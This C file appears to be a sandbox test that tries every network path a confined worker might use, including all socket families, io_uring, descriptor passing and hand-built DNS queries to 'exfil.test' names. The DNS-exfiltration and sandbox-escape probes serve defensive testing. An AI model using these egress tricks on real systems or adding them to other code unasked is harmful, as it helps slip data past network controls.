/* Every way to a network that a native program knows, tried in a worker's place or free.
 *
 * ACTS: address of a name server, address and port of a web server, path of a unix socket, name of an
 * abstract one.
 * Each act begins with the id of its case. */
#define _GNU_SOURCE
#include "in_place.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <linux/netlink.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <stddef.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>

#define IO_URING_SETUP 425
#define IO_URING_ENTER 426
#define IO_URING_REGISTER 427
#define CHANNEL 3

static struct sockaddr_in web, names;
static struct sockaddr_un path;

static long shut(long fd) {
    if (fd > CHANNEL)
        close((int)fd);
    return fd;
}

/* A socket that is not there is the channel: what can't be made anew may be misused. */
static int of(int fd) { return fd < 0 ? CHANNEL : fd; }

static long reach(int family, int type, int protocol, const void *address, socklen_t size) {
    int fd = socket(family, type | SOCK_NONBLOCK, protocol);
    if (fd < 0)
        return -1;
    long result = connect(fd, address, size);
    shut(fd);
    return result < 0 && errno == EINPROGRESS ? 0 : result;
}

static long reach_six(const char *text) {
    struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_port = web.sin_port};
    inet_pton(AF_INET6, text, &to.sin6_addr);
    return reach(AF_INET6, SOCK_STREAM, 0, &to, sizeof to);
}

static long wait_for_callers(void) {
    struct sockaddr_in any = {.sin_family = AF_INET};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    long result = fd < 0 ? -1 : bind(fd, (struct sockaddr *)&any, sizeof any);
    result = result < 0 ? result : listen(fd, 1);
    shut(fd);
    return result;
}

/* On the channel itself: as if it were a socket of another kind. */
static long misuse(int call) {
    struct sockaddr_in any = {.sin_family = AF_INET};
    return call == 0 ? connect(CHANNEL, (struct sockaddr *)&web, sizeof web)
         : call == 1 ? bind(CHANNEL, (struct sockaddr *)&any, sizeof any)
         : call == 2 ? listen(CHANNEL, 1)
                     : accept(CHANNEL, NULL, NULL);
}

static size_t question(const char *name, uint8_t *packet) {
    static const uint8_t head[12] = {0x12, 0x34, 1, 0, 0, 1};
    memcpy(packet, head, sizeof head);
    size_t at = sizeof head;
    for (const char *label = name; *label;) {
        size_t size = strcspn(label, ".");
        packet[at++] = (uint8_t)size;
        memcpy(packet + at, label, size);
        at += size;
        label += size + (label[size] == '.');
    }
    memcpy(packet + at, "\0\0\1\0\1", 5);
    return at + 5;
}

/* Sends a question by one of the calls that name a receiver; 0 once there is an answer. */
static long ask(const char *name, const char *by) {
    uint8_t packet[512];
    struct iovec piece = {packet, question(name, packet)};
    struct msghdr message = {.msg_name = &names, .msg_namelen = sizeof names, .msg_iov = &piece, .msg_iovlen = 1};
    struct mmsghdr both[2] = {{.msg_hdr = message}, {.msg_hdr = message}};
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    long sent = -1;
    if (!strcmp(by, "sendto"))
        sent = sendto(of(fd), packet, piece.iov_len, 0, (struct sockaddr *)&names, sizeof names);
    else if (!strcmp(by, "wide"))
        sent = syscall(SYS_sendto, of(fd), packet, piece.iov_len, 0, &names, 128);
    else if (!strcmp(by, "sendmsg"))
        sent = sendmsg(of(fd), &message, 0);
    else if (!strcmp(by, "sendmmsg"))
        sent = sendmmsg(of(fd), both, 2, 0) == 2 ? 1 : -1;
    else if (!connect(of(fd), (struct sockaddr *)&names, sizeof names))
        sent = write(of(fd), packet, piece.iov_len);
    struct pollfd waiting = {fd, POLLIN, 0};
    if (sent > 0 && (fd < 0 || poll(&waiting, 1, 2000) != 1)) {
        errno = ETIMEDOUT;
        sent = -1;
    }
    int error = errno;
    shut(fd);
    errno = error;
    return sent;
}

static long look_up(const char *name) {
    struct addrinfo *found = NULL;
    int error = getaddrinfo(name, "80", NULL, &found);
    if (found)
        freeaddrinfo(found);
    errno = error ? EPERM : 0;
    return error ? -1 : 0;
}

static long open_file(const char *name) { return shut(open(name, O_RDONLY)); }

static void families(void) {
    static const int types[] = {SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_SEQPACKET, SOCK_RDM, SOCK_DCCP};
    char act[64];
    for (int family = 0; family <= 46; family++) {
        long made = -1;
        for (size_t type = 0; made < 0 && type < sizeof types / sizeof *types; type++)
            made = shut(socket(family, types[type], 0));
        snprintf(act, sizeof act, "NW_03_family_%d", family);
        note(act, made);
    }
    for (int protocol = 0; protocol <= 22; protocol++) {
        snprintf(act, sizeof act, "NW_03_netlink_%d", protocol);
        note(act, shut(socket(AF_NETLINK, SOCK_RAW, protocol)));
    }
    note("NW_03_raw", shut(socket(AF_INET, SOCK_RAW, IPPROTO_RAW)));
    note("NW_03_icmp", shut(socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP)));
    note("NW_03_packet", shut(socket(AF_PACKET, SOCK_RAW, htons(3))));
    note("NW_03_mptcp", shut(socket(AF_INET, SOCK_STREAM, 262)));
    note("NW_03_sctp", shut(socket(AF_INET, SOCK_SEQPACKET, 132)));
    note("NW_03_high_bits", shut(syscall(SYS_socket, 0x100000000L | AF_INET, SOCK_STREAM, 0)));
}

static long pair(int family, int type) {
    int both[2];
    char byte = 0;
    if (syscall(SYS_socketpair, family, type, 0, both))
        return -1;
    long moved = write(both[0], "x", 1) == 1 ? read(both[1], &byte, 1) : -1;
    shut(both[0]);
    shut(both[1]);
    return moved == 1 ? 0 : -1;
}

static long ring(int call) {
    char parameters[120] = {0};
    if (call == IO_URING_SETUP)
        return shut(syscall(call, 4, parameters));
    return call == IO_URING_ENTER ? syscall(call, CHANNEL, 0, 0, 0, NULL, 0) : syscall(call, CHANNEL, 0, NULL, 0);
}

/* Takes a descriptor out of the next message on a socket; it, or -1. */
static long take(int fd, int flags) {
    char byte, room[CMSG_SPACE(sizeof(int) * 8)];
    struct iovec piece = {&byte, 1};
    struct msghdr message = {.msg_iov = &piece, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room};
    if (recvmsg(fd, &message, flags) < 0)
        return -1;
    struct cmsghdr *first = CMSG_FIRSTHDR(&message);
    if (!first || first->cmsg_type != SCM_RIGHTS) {
        errno = ENOENT;
        return -1;
    }
    int got;
    memcpy(&got, CMSG_DATA(first), sizeof got);
    return got;
}

static long give(int fd, int given) {
    char byte = 'x', room[CMSG_SPACE(sizeof(int))] = {0};
    struct iovec piece = {&byte, 1};
    struct msghdr message = {.msg_iov = &piece, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room};
    struct cmsghdr *first = CMSG_FIRSTHDR(&message);
    *first = (struct cmsghdr){.cmsg_len = CMSG_LEN(sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS};
    memcpy(CMSG_DATA(first), &given, sizeof given);
    return sendmsg(fd, &message, 0);
}

/* A helper's connected socket, by a pair of one's own: taken, and used to send. */
static long hand_over(void) {
    int both[2];
    if (syscall(SYS_socketpair, AF_UNIX, SOCK_STREAM, 0, both))
        return -1;
    int helpers = socket(AF_INET, SOCK_STREAM, 0);
    if (helpers >= 0 && connect(helpers, (struct sockaddr *)&web, sizeof web)) {
        shut(helpers);
        helpers = -1;
    }
    long result = give(both[0], of(helpers));
    long got = result < 0 ? -1 : take(both[1], 0);
    if (got >= 0 && helpers >= 0)
        result = write((int)got, "G", 1);
    shut(got);
    shut(helpers);
    shut(both[0]);
    shut(both[1]);
    return got < 0 ? -1 : result;
}

/* Descriptors beside the channel that are open: none may have come with a message. */
static long open_beside(void) {
    long found = 0;
    for (int fd = CHANNEL + 1; fd < 256; fd++)
        found += fcntl(fd, F_GETFD) >= 0;
    return found;
}

static void act(int free, char **words) {
    web = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(words[2]))};
    names = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(53)};
    path = (struct sockaddr_un){.sun_family = AF_UNIX};
    strncpy(path.sun_path, words[3], sizeof path.sun_path - 1);
    inet_pton(AF_INET, words[0], &names.sin_addr);
    inet_pton(AF_INET, words[1], &web.sin_addr);
    struct sockaddr_in here = web;
    here.sin_addr.s_addr = htonl(INADDR_LOOPBACK);

    note_number("NW_09_came", open_beside());
    note("NW_09_take", take(CHANNEL, MSG_DONTWAIT | MSG_PEEK));
    note("NW_01_tcp", reach(AF_INET, SOCK_STREAM, 0, &web, sizeof web));
    note("NW_01_loopback", reach(AF_INET, SOCK_STREAM, 0, &here, sizeof here));
    note("NW_01_six", reach_six("::1"));
    note("NW_01_mapped", reach_six("::ffff:127.0.0.1"));
    note("NW_01_udp", reach(AF_INET, SOCK_DGRAM, 0, &web, sizeof web));
    note("NW_01_listen", wait_for_callers());
    if (!free)
        for (int call = 0; call < 4; call++)
            note((const char *[]){"NW_01_connect_channel", "NW_01_bind_channel", "NW_01_listen_channel",
                                  "NW_01_accept_channel"}[call], misuse(call));
    note("NW_02_question", ask("question.exfil.test", "connect"));
    note("NW_02_libc", look_up("libc.exfil.test"));
    note("NW_02_resolv_conf", open_file("/etc/resolv.conf"));
    note("NW_02_nss", reach(AF_UNIX, SOCK_STREAM, 0, &path, sizeof path));
    families();
    note("NW_04_path", reach(AF_UNIX, SOCK_STREAM, 0, &path, sizeof path));
    note("NW_04_socket", shut(socket(AF_UNIX, SOCK_STREAM, 0)));
    note("NW_04_datagram", shut(socket(AF_UNIX, SOCK_DGRAM, 0)));
    struct sockaddr_un hidden = {.sun_family = AF_UNIX};
    size_t size = offsetof(struct sockaddr_un, sun_path) + strlen(words[4]) + 1;
    memcpy(hidden.sun_path + 1, words[4], strlen(words[4]));
    note("NW_04_abstract", reach(AF_UNIX, SOCK_STREAM, 0, &hidden, (socklen_t)size));
    note("NW_06_pair", pair(AF_UNIX, SOCK_STREAM));
    note("NW_06_datagram", pair(AF_UNIX, SOCK_DGRAM));
    note("NW_06_packets", pair(AF_UNIX, SOCK_SEQPACKET));
    note("NW_06_tipc", pair(30, SOCK_STREAM));
    note("NW_07_setup", ring(IO_URING_SETUP));
    note("NW_07_enter", ring(IO_URING_ENTER));
    note("NW_07_register", ring(IO_URING_REGISTER));
    note("NW_08_sendto", ask("sendto.exfil.test", "sendto"));
    note("NW_08_wide", ask("wide.exfil.test", "wide"));
    note("NW_08_sendmsg", ask("sendmsg.exfil.test", "sendmsg"));
    note("NW_08_sendmmsg", ask("sendmmsg.exfil.test", "sendmmsg"));
    note("NW_09_hand_over", hand_over());
}

int main(int count, char **words) { return in_place(count, words, act); }
